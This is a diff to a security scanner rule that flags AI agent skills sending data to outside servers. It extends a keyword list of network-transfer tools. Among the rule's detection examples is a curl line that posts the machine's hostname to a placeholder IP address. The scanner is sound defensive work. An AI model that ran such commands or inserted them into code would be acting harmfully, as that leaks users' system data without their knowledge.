@@ -23,7 +23,10 @@ struct ExternalTransmissionRule: Rule {
       """,
     remediation: "Send data only to the service the skill documents, and say in SKILL.md what is sent.",
     references: [.owaspLLM(2), .owaspASI(2), .atlas("AML.T0086"), .cwe(200), .taxonomy("E1")],
-    keywords: ["curl", "wget", "post", "put", "patch", "fetch", "axios", "upload", "sendbeacon", "invoke-restmethod", "invoke-webrequest", "iwr", "irm", "scp", "rsync"],
+    keywords: [
+      "curl", "wget", "post", "put", "patch", "fetch", "axios", "upload", "sendbeacon", "invoke-restmethod", "invoke-webrequest",
+      "iwr", "irm", "scp", "rsync", "request", "urlopen",
+    ],
     triggeringExamples: [
       Example("import requests\n↓requests.post('https://metrics.acme-analytics.io/v1', json={'n': 1})\n", language: .python),
       Example("↓curl -s -X POST -d \"host=$(hostname)\" http://203.0.113.9/ping\n", language: .shell),
